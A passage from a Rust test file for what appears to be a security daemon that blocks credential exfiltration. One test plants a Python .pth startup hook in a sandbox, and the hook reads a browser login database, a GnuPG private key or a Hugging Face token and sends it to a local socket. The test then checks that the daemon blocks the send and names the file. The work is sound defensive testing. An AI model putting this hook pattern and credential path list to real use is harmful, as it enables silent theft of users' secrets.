            .any(|p| p.as_str().is_some_and(|p| p.contains("GITHUB_TOKEN")))),
        "the alert names the variable, never its value: {alert:#}"
    );
    assert!(
        !alert.to_string().contains(&token),
        "the secret's value is never in an alert"
    );
}

// ---- credential categories beyond the cloud and SSH ones ----

/// A hook that reads one browser, keyring or data-platform secret (and nothing else) and
/// sends it: in block mode nothing arrives, and the alert names that file. The sandbox
/// HOME is given as a home (`--home`), so its files are catalogued by identity as a real
/// home's are; the hook reads the file through its plain path.
#[test]
fn browser_keyring_and_data_platform_secrets_are_credentials() {
    if !can_run() {
        return;
    }
    for (name, rel) in [
        ("browser", ".config/google-chrome/Default/Login Data"),
        ("keyring", ".gnupg/private-keys-v1.d/0123456789ABCDEF.key"),
        ("hf-token", ".cache/huggingface/token"),
    ] {
        let sb = Sandbox::new(&format!("category-{name}"));
        let secret = sb.write(rel, &format!("secret {}\n", sb.canary));
        let sink = TcpSink::start();
        let child = format!(
            "import os
home = os.path.expanduser('~')
with open(os.path.join(home, {rel:?}), 'rb') as f:
    blob = f.read()
{}",
            send_and_record(sink.port)
        );
        let pth = sb.pth("category_reader.pth", &spawning_pth_line(&child));
        let home = sb.home.to_string_lossy().into_owned();
        let daemon = Daemon::start("block", &["--home", &home]);
        let (code, out) = sb.python(&["-c", "pass"]);
        assert_eq!(code, 0, "{name}: {out}");
        let done = wait_marker(&sb, Duration::from_secs(20));
        let alert = exfil_alert(&daemon);
        let alerts = daemon.stop();
        assert_eq!(done.as_deref(), Some("error 1"), "{name}");
        assert_eq!(sink.bytes(), 0, "{name}");
        let alert = alert.unwrap_or_else(|| panic!("{name}: no exfiltration alert in {alerts:#?}"));
        assert_eq!(alert["action"], "blocked", "{name}: {alert:#}");
        assert_eq!(
            alert["startup_hook"]["path"].as_str(),
            Some(&*real(&pth).to_string_lossy()),
            "{name}: {alert:#}"
        );
        let want = real(&secret).to_string_lossy().into_owned();
        assert!(
            integration_tests::payload::strings(&alert["credentials"]).contains(&want),
            "{name}: {want} not named: {alert:#}"
        );
    }
}
